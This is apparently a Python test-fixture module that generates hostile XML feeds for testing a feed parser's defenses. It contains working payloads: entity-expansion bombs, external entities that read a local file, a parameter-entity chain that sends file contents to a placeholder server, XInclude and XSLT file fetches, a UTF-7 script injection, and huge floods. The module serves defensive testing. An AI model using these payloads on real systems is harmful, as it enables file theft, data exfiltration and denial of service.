"""Feeds that attack their reader: entities, external things, depth, floods, encodings (P1, U9)."""

from __future__ import annotations

from collections.abc import Callable, Iterator

MARK = "canary-of-the-file"
"""Stands in the file that no feed may bring out."""

RSS = """<?xml version="1.0"{encoding}?>{dtd}<rss version="2.0"><channel><title>Up</title>{loose}
<item><title>{title}</title><link>https://up.example/{link}</link><guid isPermaLink="false">g{guid}</guid>
<description>Words {body}</description></item></channel></rss>"""
ATOM = """<?xml version="1.0"{encoding}?>{dtd}<feed xmlns="http://www.w3.org/2005/Atom"><title>Up</title>{loose}
<entry><id>tag:up.example,2026:{guid}</id><title>{title}</title><link href="https://up.example/{link}"/>
<updated>2026-11-23T08:00:00Z</updated><content type="html">Words {body}</content></entry></feed>"""
RDF = """<?xml version="1.0"{encoding}?>{dtd}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>Up</title>{loose}</channel>
<item rdf:about="https://up.example/{link}"><title>{title}</title><description>Words {body} {guid}</description></item>
</rdf:RDF>"""
FEEDS = {"rss": RSS, "atom": ATOM, "rdf": RDF}
PLACES = ("title", "body", "link", "guid")


def repeated(form: str, count: int) -> str:
    return "".join(form.format(number) for number in range(count))


def feed(kind: str = "rss", **parts: str) -> str:
    """A feed of one entry, with something put into it."""
    given = {"encoding": "", "dtd": "", "loose": "", "title": "Title", "link": "a", "guid": "1", "body": ""}
    return FEEDS[kind].format(**(given | parts))


def entities(file: str, web: str) -> dict[str, tuple[str, str]]:
    """Document types by name, each with the reference that sets it off."""
    steps = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, 11))
    nested = "".join(f"<!ENTITY % p{n} '" + f"&#37;p{n - 1};" * 10 + "'>" for n in range(1, 9))
    return {
        "laughs": (f'<!DOCTYPE r [<!ENTITY l0 "lol">{steps}]>', "&l10;"),
        "quadratic": (f'<!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 20_000),
        "cyclic": ('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "parameter laughs": (f'<!DOCTYPE r [<!ENTITY % p0 "x">{nested}<!ENTITY e "%p8;">]>', "&e;"),
        "file": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
        "public file": (f'<!DOCTYPE r [<!ENTITY x PUBLIC "a" "{file}">]>', "&x;"),
        "web": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{web}/entity">]>', "&x;"),
        "outer type of the web": (f'<!DOCTYPE r SYSTEM "{web}/outer.dtd">', "&x;"),
        "outer type of a file": (f'<!DOCTYPE r SYSTEM "{file}">', "&x;"),
        "public outer type": (f'<!DOCTYPE r PUBLIC "-//x" "{web}/outer.dtd">', ""),
        "parameter of the web": (f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{web}/p.dtd">%x;]>', ""),
        "sent out by a parameter": (
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}">'
            f"<!ENTITY % d \"<!ENTITY &#37; s SYSTEM '{web}/?%f;'>\">%d;%s;]>",
            "",
        ),
        "default of an attribute": (
            f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}"><!ATTLIST item t CDATA "&x;">]>',
            "",
        ),
        "notation": (
            f'<!DOCTYPE r [<!NOTATION n SYSTEM "{web}/n"><!ENTITY u SYSTEM "{web}/u" NDATA n>]>',
            "&u;",
        ),
        "never closed": ('<!DOCTYPE r [<!ENTITY x "y"', "&x;"),
        "many declarations": ("<!DOCTYPE r [" + repeated("<!ENTITY e{0} 'v'>", 20_000) + "]>", "&e1;"),
    }


def included(file: str, web: str) -> dict[str, str]:
    """Elements and instructions that ask for something else."""
    name = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    found = {
        f"include {parse} {what}": f'<xi:include {name} href="{href}" parse="{parse}"/>'
        for parse in ("text", "xml")
        for what, href in (("file", file), ("web", f"{web}/include"))
    }
    return found | {
        "style sheet": f'<?xml-stylesheet type="text/xsl" href="{web}/x.xsl"?>',
        "schema": f'<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {web}/x.xsd"/>',
        "transform": f'<xsl:copy-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'{file}\')"/>',
        "base": f'<x xml:base="{web}/"><link href="x"/></x>',
    }


def floods() -> dict[str, str]:
    """Depth and width, up to the size that is fetched."""
    million = 1_000_000
    return {
        "a million deep": feed(body="<a>" * million),
        "a million deep and closed": feed(loose="<a>" * million + "</a>" * million),
        "deep names of spaces": feed(loose=repeated("<a:b xmlns:a='u{0}'>", 100_000)),
        "items in items": "<rss><channel>" + "<item><title>t</title>" * 100_000,
        "deep escaped markup": feed(body="&lt;div&gt;" * 400_000),
        "deep xhtml": feed("atom", body="<div>" * 250 + "x" + "</div>" * 250),
        "attributes": feed(loose="<x" + repeated(" a{0}=''", 200_000) + "/>"),
        "attributes of one name": feed(loose="<x" + " a=''" * 200_000 + "/>"),
        "spaces of names": feed(loose="<x" + repeated(" xmlns:a{0}='u{0}'", 100_000) + "/>"),
        "attributes in markup": feed(body="&lt;p" + repeated(" a{0}=x", 100_000) + "&gt;"),
        "a long name": feed(loose=f"<{'n' * 5_000_000}/>"),
        "a long value": feed(loose=f'<x a="{"v" * 9_000_000}"/>'),
        "a long text": feed(title="t" * 9_000_000),
        "a long link": feed(link="l" * 5_000_000),
        "a long id": feed(guid="g" * 5_000_000),
        "comments": feed(loose="<!---->" * million),
        "one long comment": feed(loose=f"<!--{'- ' * 4_000_000}-->"),
        "instructions": feed(loose="<?a?>" * million),
        "raw sections": feed(body="<![CDATA[]]>" * 500_000),
        "a raw section without end": feed(body="<![CDATA[" + "]" * 5_000_000),
        "open angles": feed(body="<" * 5_000_000),
        "open ampersands": feed(body="&" * 5_000_000),
        "references": feed(body="&#65;" * million),
        "references to nothing": feed(body="&nothing;" * 500_000),
        "great numbers": feed(body="&#99999999999999;" * 100_000 + "&#" + "9" * 100_000 + ";"),
        "categories": feed(loose="<item>" + "<category>c</category>" * 300_000 + "</item>"),
        "authors": feed("atom", loose="<entry><id>x</id>" + "<author><name>n</name></author>" * 150_000 + "</entry>"),
        "links": feed("atom", loose="<entry><id>x</id>" + '<link rel="next" href="b"/>' * 200_000 + "</entry>"),
        "enclosures": feed(loose="<item>" + '<enclosure url="u" length="1"/>' * 200_000 + "</item>"),
        "dates": feed(loose="<item><pubDate>" + "1 " * 2_000_000 + "</pubDate></item>"),
        "blanks": " " * 9_000_000 + feed(),
        "line ends": feed(body="\r\n" * 4_000_000),
    }


SETS = (
    *("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "iso-2022-jp", "gb18030", "hz", "utf-8-sig"),
    *("latin-1", "shift_jis", "big5"),
)
DECLARED = (
    *(
        "utf-7",
        "zip",
        "hex",
        "rot13",
        "base64",
        "unicode_escape",
        "raw_unicode_escape",
        "idna",
        "punycode",
        "undefined",
    ),
    *("mbcs", "x-user-defined", "ucs-4", "../../etc/passwd", "utf-16", "bz2", "a" * 1_000),
)


def encoded(file: str) -> Iterator[tuple[str, bytes]]:
    """An attack hidden behind an encoding, and encodings that are none."""
    dtd, reference = entities(file, "http://up.example")["file"]
    for name in SETS:
        text = feed(encoding=f' encoding="{name}"', dtd=dtd, body=reference)
        yield f"in {name}", text.encode(name, "replace")
    for name in DECLARED:
        yield f"declared as {name[:12]}", feed(encoding=f' encoding="{name}"', dtd=dtd, body=reference).encode()
    yield "utf-7 markup", feed(encoding=' encoding="utf-7"', body="+ADw-script+AD4-alert(1)+ADw-/script+AD4-").encode()


def attacks(file: str, web: str) -> dict[str, bytes]:
    """All of them by name; `file` is the address of a file with MARK in it, `web` of a server that nobody may ask."""
    found: dict[str, bytes] = {}
    for name, (dtd, reference) in entities(file, web).items():
        for kind in FEEDS:
            found[f"{name} in {kind}"] = feed(kind, dtd=dtd, body=reference).encode()
        for place in PLACES:
            if len(reference) < 100:
                found[f"{name} in the {place}"] = feed("atom", dtd=dtd, **{place: reference}).encode()
    for name, markup in included(file, web).items():
        for kind in FEEDS:
            found[f"{name} in {kind}"] = feed(kind, loose=markup, body=markup).encode()
    found |= {name: text.encode() for name, text in floods().items()}
    return found | dict(encoded(file))


def with_items(count: int) -> bytes:
    """A feed of many items, in the fewest bytes."""
    return b"<rss><channel><title>Up</title>" + b"<item/>" * count + b"</channel></rss>"


PATTERNS: dict[str, Callable[[int], str]] = {
    "brackets": lambda size: "[" * size,
    "links": lambda size: "[a](b" * (size // 5),
    "raw sections": lambda size: "<![CDATA[" * (size // 9),
    "backticks": lambda size: "".join(f"e{'`' * n}" for n in range(1, int((2 * size) ** 0.5))),
    "emphasis": lambda size: "*a_" * (size // 3),
    "images": lambda size: "![" * (size // 2),
    "quotes": lambda size: "> " * (size // 2) + "x",
    "lists": lambda size: "- " * (size // 2) + "x",
    "comments": lambda size: "<!--" * (size // 4),
    "open tags": lambda size: "<b><p>" * (size // 6),
    "attributes": lambda size: "<a b='" * (size // 6),
    "divisions": lambda size: "<div>" * (size // 5),
    "references": lambda size: "&#" * (size // 2),
    "tables": lambda size: "|a" * (size // 2) + "\n" + "|-" * (size // 2),
}
"""The 14 patterns of U10."""
